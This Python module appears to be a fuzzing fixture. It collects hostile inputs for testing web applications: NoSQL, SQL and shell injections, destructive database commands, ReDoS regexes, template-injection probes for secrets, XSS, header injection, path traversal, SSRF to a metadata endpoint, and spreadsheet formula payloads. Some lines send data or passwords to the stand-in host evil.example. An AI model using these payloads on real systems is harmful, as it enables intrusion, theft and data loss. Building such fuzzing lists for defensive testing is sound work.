"""What people type, paste and send who want to break in or break something."""

import json

OPERATORS = """
    $eq $ne $gt $gte $lt $lte $in $nin $exists $type $regex $where $expr $function $accumulator
    $not $or $and $nor $all $elemMatch $size $mod $text $near $geoWithin $jsonSchema $lookup
    $unionWith $out $merge $set $unset $inc $rename $push $pull $currentOp $literal
""".split()

SCRIPTS = [
    "'; return true; var x='",
    "1; while(true){}",
    "sleep(5000)",
    "function(){return true}",
    "this.password.match(/.*/)",
    "'||'1'=='1",
    "' || this.email != '",
    "\\'; db.users.drop(); //",
    "db.dropDatabase()",
    "process.exit()",
    "new Date(); do{}while(true)",
    "' OR 1=1 --",
    '" OR ""="',
    "1' UNION SELECT password FROM users --",
    "'; DROP TABLE users; --",
    "*)(uid=*))(|(uid=*",
    "; cat /etc/passwd",
    "| id",
    "`id`",
    "$(id)",
    "&& ping -c 10 127.0.0.1",
]

BOMBS = [
    "(a+)+$",
    "(a|a)*b",
    "(a|aa)+$",
    "([a-zA-Z]+)*X",
    "(.*a){25}",
    "^(([a-z])+.)+[A-Z]([a-z])+$",
    "(?=(a+))a*b",
    "(?:(?:a?){30}a{30})",
    "\\",
    "[",
    "(",
    "(?",
    "(?P<",
    "*",
    "+",
    "a{99999999}",
    "a{1,2}{2,3}" * 20,
    "[[:alpha:]]",
    "\\p{L}+",
    ".*" * 500,
    "a" * 3000 + "!",
    "((((((((((" * 50,
    "(?R)",
    "\\1\\2\\3",
    "[\\d-x]",
    "^^^$$$",
    "|||",
]

UNSEEN = [
    "\x00",
    "a\x00b",
    "%00",
    "admin@example.org\x00.evil",
    "\x07\x08\x1b[31m",
    "\x7f",
    "\x85",
    "\u200b",
    "\u200d\u200c",
    "\u202eevil",
    "\u2066a\u2069",
    "\ufeff",
    "\ufffe",
    "\uffff",
    "\u0301" * 200,
    "Z\u0351\u036b\u0343\u036a" * 50,
    "\u1d400\u1d401",
    "ﬀﬁﬂ",
    "İıſK",
    "ß" * 200,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U000e0041\U000e0042",
    "\ud7ff\ue000",
    "\r\n.\r\n",
    "\u2028\u2029",
    "\t" * 100,
    " " * 1000,
    "۱۲۳",
    "Ⅷ",
    "²",
    "NaN",
    "-Infinity",
]

TEMPLATES = [
    f"{begin}1337*7331{end}"
    for begin, end in (
        ("{{", "}}"),
        ("${", "}"),
        ("#{", "}"),
        ("<%= ", " %>"),
        ("{%print(", ")%}"),
        ("{{=", "}}"),
        ("@(", ")"),
        ("*{", "}"),
        ("[[${", "}]]"),
        ("{", "}"),
        ("%{", "}"),
        ("$(", ")"),
    )
] + [
    "{% debug %}",
    "{% include '/etc/passwd' %}",
    "{% load static %}",
    "{{ request.session }}",
    "{{ settings.SECRET_KEY }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "%(password)s",
    "{0.__class__.__init__.__globals__}",
    "{user.password}",
    "%s%s%s%n",
    "${jndi:ldap://127.0.0.1/a}",
    "<!--#exec cmd='id' -->",
]
PRODUCT = "9801547"  # of the numbers above

MARKUP = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert`1`>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=password>",
    "<input type=hidden name=rol value=Administrador>",
    "<object data=//evil.example>",
    "<embed src=//evil.example>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<div hx-get=//evil.example hx-trigger=load>",
    "<div hx-on:click=alert(1)>",
    "<div data-hx-post='/profile/delete/'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "＜script＞alert(1)＜/script＞",
    "<script\x00>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "\\x3cscript\\x3ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<xss id=x tabindex=1 onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]

LINES = [
    f"{start}{line_break}{header}"
    for start in ("/", "x")
    for line_break in ("\r\n", "\n", "\r", "%0d%0a", "\u010d\u010a")
    for header in ("Set-Cookie: sessionid=evil", "Location: //evil.example", "\r\n<html>")
] + [
    "a@example.org\r\nBcc: victim@example.org",
    "a@example.org%0ABcc:victim@example.org",
    "a@example.org,victim@example.org",
    "<a@example.org>",
    '"a\r\nSubject: x"@example.org',
]

PLACES = [
    "../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\boot.ini",
    "....//....//etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "%2e%2e%2f",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    "//evil.example",
    "///evil.example",
    "/\\evil.example",
    "https://evil.example/users/",
    "https:evil.example",
    "http://127.0.0.1:27017/",
    "http://169.254.169.254/latest/meta-data/",
    "gopher://127.0.0.1:25/",
    "/users/@evil.example",
    "//testserver@evil.example/",
    "/users/..//evil.example",
    "\t//evil.example",
    "con.png",
    "a.png/../../b",
    ".htaccess",
    "a" * 300 + ".png",
]

FORMULAS = [
    start + formula
    for start in ("", " ", "\t", "\r", "\n", "'", '"', ";", ",")
    for formula in (
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1,1)",
        '=HYPERLINK("//evil.example","x")',
        "=cmd|' /C calc'!A0",
        "＝1+1",
    )
]

NUMBERS = [
    "0",
    "-1",
    "1e999",
    "99999999999999999999",
    "9" * 500,
    "0x10",
    "1_000",
    "1.5",
    "1,5",
    "٣",
    "--1",
    "2147483648",
    "-9223372036854775809",
    "9999-12-31",
    "0000-00-00",
    "2026-02-30",
    "0001-01-01",
    "10000-01-01",
    "1900-01-01T00:00:00Z",
    "true",
    "null",
    "None",
    "undefined",
    "[]",
    "{}",
    "0" * 24,
    "f" * 24,
    "F" * 24,
    "z" * 24,
    "6b08d48763ae8b8e7503e9c4; x",
    "ObjectId('6b08d48763ae8b8e7503e9c4')",
]

DEEP = [
    "[" * 5000 + "]" * 5000,
    '{"a":' * 2000 + "1" + "}" * 2000,
    json.dumps({"$where": "sleep(5000)", "a": [{"$gt": ""}] * 50}),
    "(((" * 1000,
    "a." * 3000,
    "a[b]" * 1000,
]

PAYLOADS = list(
    dict.fromkeys(
        [
            *OPERATORS,
            *(json.dumps({operator: ""}) for operator in OPERATORS),
            *(f"{operator}: 1" for operator in OPERATORS[:12]),
            *SCRIPTS,
            *BOMBS,
            *UNSEEN,
            *TEMPLATES,
            *MARKUP,
            *LINES,
            *PLACES,
            *FORMULAS,
            *NUMBERS,
            *DEEP,
        ]
    )
)


def names(field: str) -> list[str]:
    """Other ways to name a form's field, as some frameworks make objects and operators of them."""
    return [
        *(f"{field}[{operator}]" for operator in ("$ne", "$gt", "$regex", "$where", "$in")),
        f"{field}[]",
        f"{field}[0][$ne]",
        f"{field}.$ne",
        f"{field}__ne",
        f"$set[{field}]",
        f"{field}\x00",
        "__proto__",
        "constructor[prototype][rol]",
        "_id",
        "$where",
    ]
